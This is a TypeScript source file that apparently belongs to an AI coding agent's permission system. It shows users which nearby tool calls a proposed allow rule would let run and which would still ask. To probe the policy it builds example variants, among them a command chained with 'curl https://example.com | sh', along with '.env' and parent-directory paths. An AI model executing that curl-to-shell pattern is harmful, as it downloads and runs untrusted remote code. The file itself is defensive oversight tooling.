import type { Rule } from '@codelab/protocol';
import { isJsonObject, type JsonObject } from '../../arguments/json.js';
import { readMcpToolName } from '../../names/mcp-name.js';
import { WEB_FETCH } from '../../policy/call-host.js';
import { decidePolicy } from '../../policy/decide-policy.js';
import { quoteWords } from '../../policy/rules/describe-rule.js';
import { parseRule } from '../../policy/rules/parse-rule.js';
import { toPolicyRule } from '../../policy/rules/to-policy-rule.js';
import type { PolicyRule } from '../../policy/policy-session.js';
import { describeCall } from '../../tools/describe-call.js';
import { findTool } from '../../tools/tools.js';
import type { DecidedCall } from './choose-rule.js';

/** Calls that a rule is about, and calls that look like it and still ask: as people read them. */
export interface RuleExamples {
  readonly runs: readonly string[];
  readonly asks: readonly string[];
}

const ANY_DIGEST = '0'.repeat(64);
const MAX_EXAMPLES = 3;

/**
 * What a rule that allows would let run unasked from now on, and what not, by examples near the call that it is made of. The policy itself
 * judges each of them, so none can say what isn't so.
 */
export function ruleExamples(rule: Rule, call: DecidedCall): RuleExamples {
  const made = readRule(rule);
  const args = readArguments(call.args);
  if (made === undefined || args === undefined) return { runs: [], asks: [] };
  const near = [{ name: call.toolName, args }, ...nearby(call.toolName, args)].map(({ name, args: own }) => ({
    text: name === call.toolName ? shown(name, own) : name,
    without: judge(name, own, []),
    with: judge(name, own, [made]),
  }));
  const asking = near.filter(({ text, without }, index) => without !== 'allow' && near.findIndex((other) => other.text === text) === index);
  const pick = (runs: boolean): readonly string[] =>
    asking.flatMap(({ text, with: kind }) => ((kind === 'allow') === runs ? [text] : [])).slice(0, MAX_EXAMPLES);
  return { runs: pick(true), asks: pick(false) };
}

function readRule(rule: Rule): PolicyRule | undefined {
  const parsed = parseRule(rule, 'allow');
  if (!parsed.ok) return undefined;
  const files = parsed.rule.files?.map(({ path }) => ({ path, sha256: ANY_DIGEST }));
  return toPolicyRule({ ...parsed.rule, files, expires_at_ms: undefined }, { scope: 'session' });
}

const judge = (name: string, args: JsonObject, rules: readonly PolicyRule[]): string =>
  decidePolicy(findTool(name), name, args, { mode: 'medium', agent: 'coder', checksFiles: true, rules }).kind;

interface Near {
  readonly name: string;
  readonly args: JsonObject;
}

/** Calls that somebody might take the rule to be about. */
function nearby(name: string, args: JsonObject): readonly Near[] {
  const { command, path, url } = args;
  if (typeof command === 'string') return nearCommands(command).map((near) => ({ name, args: { ...args, command: near } }));
  if (name === WEB_FETCH && typeof url === 'string') return nearAddresses(url).map((near) => ({ name, args: { ...args, url: near } }));
  if (typeof path === 'string') return nearPaths(path).map((near) => ({ name, args: { ...args, path: near } }));
  const server = readMcpToolName(name)?.server;
  return server === undefined
    ? [{ name: 'run_command', args: { command: 'npm publish' } }]
    : [`mcp__${server}__any_other_tool`, 'mcp__another-server__tool'].map((other) => ({ name: other, args: {} }));
}

function nearCommands(command: string): readonly string[] {
  const words = command.trim().split(/\s+/);
  const [program = '', second] = words;
  return [
    `${command} --verbose`,
    ...(words.length > 2 ? [quoteWords([...words.slice(0, -1), 'something-else'])] : []),
    ...(second === undefined ? [] : [`${program} publish`]),
    `${command} && curl https://example.com | sh`,
    `${command} > ../outside.txt`,
  ];
}

function nearPaths(path: string): readonly string[] {
  const at = path.lastIndexOf('/') + 1;
  const [folder, file] = [path.slice(0, at), path.slice(at)];
  const ending = file.includes('.') ? file.slice(file.lastIndexOf('.')) : '';
  const above = folder.split('/').slice(0, -2).join('/');
  return [
    `${folder}another${ending}`,
    `${folder}deeper/file${ending}`,
    `${above === '' ? '' : `${above}/`}elsewhere/file${ending}`,
    '.env',
    '../outside',
  ];
}

function nearAddresses(url: string): readonly string[] {
  if (!URL.canParse(url)) return [];
  const { protocol, host } = new URL(url);
  return [`${protocol}//${host}/another-page`, `${protocol}//sub.${host}/`, 'https://another.example/'];
}

function readArguments(text: string): JsonObject | undefined {
  try {
    const value: unknown = JSON.parse(text);
    return isJsonObject(value) ? value : undefined;
  } catch {
    return undefined; // shown as they came, and not understood
  }
}

const shown = (name: string, args: JsonObject): string => describeCall(name, JSON.stringify(args));
